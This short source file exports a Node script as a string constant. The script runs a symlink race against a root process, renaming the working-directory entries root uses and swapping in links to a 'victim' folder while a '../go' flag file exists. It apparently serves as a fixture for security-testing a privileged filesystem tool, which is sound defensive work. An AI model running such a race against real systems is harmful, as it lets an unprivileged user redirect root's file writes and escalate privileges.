/**
 * A program for Node that renames what root uses in the working directory, and puts links to a folder of root in its
 * place, as fast as it can, for as long as `../go` is there.
 */
export const SWAP = `
const fs = require('node:fs')
const attempt = (action) => { try { action() } catch {} }
for (let i = 0; fs.existsSync('../go'); i++) for (const name of ['run', 'p', 'u', 'u.atomfs-work']) {
  attempt(() => fs.renameSync(name, 'x.' + name))
  attempt(() => fs.symlinkSync('../victim', name))
  attempt(() => fs.readlinkSync(name) && fs.unlinkSync(name))
  // Root was faster, and has made a new one.
  attempt(() => fs.existsSync('x.' + name) && fs.renameSync(name, 'old.' + name + i))
  attempt(() => fs.renameSync('x.' + name, name))
}`
